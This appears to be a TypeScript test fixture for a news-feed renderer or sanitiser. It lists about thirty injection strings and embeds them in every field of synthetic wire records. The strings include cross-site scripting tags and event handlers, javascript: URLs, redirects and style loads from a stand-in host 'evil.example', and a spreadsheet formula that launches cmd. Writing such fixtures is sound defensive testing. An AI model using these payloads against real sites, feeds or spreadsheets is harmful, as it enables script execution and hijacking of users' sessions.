import type { Wire } from "../record/builders.ts";

/** Text that tries to be more than text: every way in that browsers and feed readers are known to have left open. */
export const PAYLOADS: readonly string[] = [
  `<script>probe(1)</script>`,
  `</title></head><script>probe(2)</script>`,
  `"><script>probe(3)</script>`,
  `'><img src=x onerror=probe(4)>`,
  `<img src="x" onerror="probe(5)">`,
  `<svg onload=probe(6)><a href="javascript:probe(7)">x</a></svg>`,
  `<svg><style>@import "//evil.example/x.css";</style></svg>`,
  `<style>*{background:url(//evil.example/y)}</style>`,
  `<iframe srcdoc="<script>parent.probe(8)</script>"></iframe>`,
  `<math><mtext><table><mglyph><style><img src onerror=probe(9)>`,
  `<noscript><p title="</noscript><img src=x onerror=probe(10)>">`,
  `<form action="javascript:probe(11)"><button>go</button></form>`,
  `<base href="//evil.example/"><link rel=stylesheet href=//evil.example/z>`,
  `<meta http-equiv="refresh" content="0;url=//evil.example/">`,
  `<!--<img src="--><img src=x onerror=probe(12)//">`,
  `<![CDATA[<script>probe(13)</script>]]>`,
  `]]><script>probe(14)</script>`,
  `&lt;script&gt;probe(15)&lt;/script&gt;`,
  `&#x3c;script&#x3e;probe(16)&#x3c;/script&#x3e;`,
  `\u003cscript\u003eprobe(17)\u003c/script\u003e`,
  `" onmouseover="probe(18)" x="`,
  `' autofocus onfocus='probe(19)`,
  `{{constructor.constructor('probe(20)')()}} \${probe(21)}`,
  `<xss-probe is="x">probe</xss-probe>`,
  `=HYPERLINK("//evil.example","probe")`,
  `@SUM(1+1)*cmd|'/C calc'!A0`,
  `\r\nBEGIN:VEVENT\r\nSUMMARY:probe\r\nEND:VEVENT`,
  `\u202Eprobe\u2028probe\u2029`,
];

/** A story with a payload wherever an article, or a claim of it, has text. */
export function hostileWires(): Wire[] {
  return PAYLOADS.flatMap((payload, i): Wire[] => {
    const says = `The envoy ${payload} met the minister on Monday.`;
    const plan = `They will meet again ${payload} on May 20.`;
    const url = ["javascript:probe(30)", "data:text/html,<script>probe(31)</script>", `https://a.example/"><b>${i}`][
      i % 3
    ]!;
    const wire: Wire = {
      title: `${payload} envoys meet ${i}`,
      text: `${says}\n\n${plan}\n\n${payload}`,
      outlet: `Harbour ${payload}`,
      agency: payload,
      published: "2031-05-05",
      url,
      events: [
        {
          kind: "meet",
          says,
          act: "met",
          by: [`Ana ${payload.replaceAll("/", "|")}/ANS/envoy ${payload.replaceAll("/", "|")}`],
          to: [`Bo ${payload.replaceAll("/", "|")}/BOR/minister`],
          on: "2031-05-05",
          at: payload.replaceAll("/", "|"),
          saidBy: `Speaker ${payload.replaceAll("/", "|")}`,
          details: { topic: payload, resolution: `1718 ${payload}` },
        },
        {
          kind: i % 2 === 0 ? "meet" : "launch",
          status: "planned",
          says: plan,
          act: "meet",
          by: [`Ana ${payload.replaceAll("/", "|")}/ANS/envoy`],
          to: ["Bo Lind/BOR/minister"],
          on: "2031-05-20",
          details: { weapon: payload },
        },
      ],
    };
    return [wire, { ...wire, text: `${wire.text}\n\nMore.`, edition: "2nd LD", published: "2031-05-06" }];
  });
}
